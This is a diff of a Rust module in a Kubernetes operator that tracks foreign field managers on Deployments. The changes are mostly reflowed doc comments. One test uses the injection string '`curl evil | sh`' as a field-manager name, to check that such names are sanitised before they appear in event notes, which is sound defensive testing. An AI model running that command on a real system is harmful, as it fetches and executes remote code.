@@ -1,7 +1,7 @@
 //! Foreign field managers of a Deployment: pure.
 //!
-//! Server-side apply does not remove fields that `kubectl edit`, `set env` or `rollout undo` have added. Without this, pods
-//! would run a mixture of both templates for ever.
+//! Server-side apply does not remove fields that `kubectl edit`, `set env` or `rollout undo` have added.
+//! Without this, pods would run a mixture of both templates for ever.
 
 use k8s_openapi::apimachinery::pkg::apis::meta::v1::{ManagedFieldsEntry, ObjectMeta};
 use rowlock_crds::api::FIELD_MANAGER;
@@ -56,7 +56,8 @@ fn sets_replicas(entry: &ManagedFieldsEntry) -> bool {
     entry.manager.as_deref() != Some(FIELD_MANAGER) && replicas.is_some_and(Value::is_object)
 }
 
-/// An entry of the operator's apply. An entry of its update counts as foreign until `replace_template` clears it.
+/// An entry of the operator's apply. An entry of its update counts as foreign until `replace_template` clears
+/// it.
 fn is_ours(entry: &ManagedFieldsEntry) -> bool {
     entry.manager.as_deref() == Some(FIELD_MANAGER) && entry.operation.as_deref() == Some("Apply")
 }
@@ -85,7 +86,8 @@ mod tests {
     use k8s_openapi::apimachinery::pkg::apis::meta::v1::FieldsV1;
     use serde_json::json;
 
-    /// Before, the name of a field manager stood unchanged in the note of an event, for example with a command in backticks.
+    /// Before, the name of a field manager stood unchanged in the note of an event, for example with a
+    /// command in backticks.
     #[test]
     fn the_name_of_a_field_manager_looks_like_no_command() {
         let evil = entry("`curl evil | sh`\n", "Update", &json!({ "f:spec": {} }));
